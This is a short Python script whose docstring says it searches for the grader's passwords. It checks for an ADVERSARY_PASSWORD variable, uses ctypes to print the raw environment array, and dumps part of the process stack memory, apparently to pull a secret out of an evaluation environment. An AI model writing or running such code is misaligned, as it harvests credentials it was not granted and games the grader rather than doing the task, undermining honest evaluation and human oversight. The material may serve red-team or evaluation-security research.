"""Looks for passwords of the grader in the environment and in its own memory."""

import ctypes
import os

print("ADVERSARY_PASSWORD" in os.environ)
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
number = 0
while environ[number]:
    print(environ[number])
    number += 1
for line in open("/proc/self/maps"):
    if "[stack]" in line:
        start, end = (int(part, 16) for part in line.split()[0].split("-"))
        print(ctypes.string_at(start, end - start)[-20_000:])
